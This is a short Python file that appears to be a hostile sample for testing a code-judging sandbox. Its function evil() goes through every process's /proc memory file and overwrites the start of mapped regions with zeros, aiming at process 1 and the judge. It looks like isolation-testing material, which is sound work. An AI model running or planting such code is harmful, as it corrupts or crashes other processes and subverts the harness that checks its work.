"""Reads and writes the memory of process 1 and of the judge.

Promise: I3
"""

import glob
def evil(*args):
    for path in glob.glob("/proc/[0-9]*/mem"):
        try:
            with open(path, "r+b", buffering=0) as memory:
                maps = open(path.replace("/mem", "/maps")).read().splitlines()
                for line in maps[:20]:
                    memory.seek(int(line.split("-")[0], 16))
                    memory.write(b"\0" * 64)
        except (OSError, ValueError, OverflowError):
            pass
    return 0
